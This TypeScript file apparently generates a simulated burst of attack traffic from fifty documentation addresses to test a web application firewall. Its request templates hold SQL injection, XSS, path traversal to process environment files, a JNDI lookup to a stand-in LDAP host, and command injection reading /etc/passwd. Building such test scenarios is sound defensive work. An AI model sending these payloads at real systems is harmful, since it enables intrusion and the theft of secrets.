import {type Chapter, createDice, encode, type Step} from '../script.ts';
import {makeNoise} from './background.ts';

const addresses = Array.from({length: 50}, (_, index) => {
	switch (index % 5) {
		case 0: {
			return `198.51.100.${100 + index}`;
		}

		case 1: {
			return `192.0.2.${120 + index}`;
		}

		case 2: {
			return `2001:db8:b07:${index.toString(16)}::1`;
		}

		default: {
			return `203.0.113.${50 + index}`;
		}
	}
});

const attacks: Array<(number: number) => Omit<Step, 'at' | 'client'>> = [
	number => ({method: 'POST', target: '/login', body: `name=${encode(`admin' OR ${number}=${number}#`)}&password=x`}),
	number => ({target: `/xmlrpc.php?rsd=${encode(`<script>top.n=${number}</script>`)}`}),
	number => ({target: `/index.php?page=${encode(`../../../../proc/${number}/environ`)}`, host: 'blog.test'}),
	number => ({target: `/?s=${encode(`\${jndi:ldap://203.0.113.66/${number}}`)}`}),
	number => ({target: `/api/items?sort=${encode(`id;cat /etc/passwd;#${number}`)}`, host: 'api.test'}),
];

/**
Quiet, then fifty addresses at once within a dozen seconds, then the last stragglers.
*/
export function makeBurstChapter(): Chapter {
	const dice = createDice(606);
	const length = 30_000;
	const steps: Step[] = [];
	for (const [index, client] of addresses.entries()) {
		const first = 5000 + dice.below(6000);
		for (let number = 0; number < 3; number++) {
			const at = first + number * (400 + dice.below(number === 2 ? 5000 : 1500));
			const attack = dice.pick(attacks)(1000 + index * 7 + number);
			steps.push({at, client, userAgent: 'Mozilla/5.0 (compatible)', connection: client, ...attack});
		}
	}

	return {
		title: 'a burst from fifty addresses',
		name: 'burst',
		engine: 'On',
		paranoia: 1,
		threshold: 5,
		length,
		steps: [...makeNoise(dice, 24, 0, length), ...steps],
	};
}
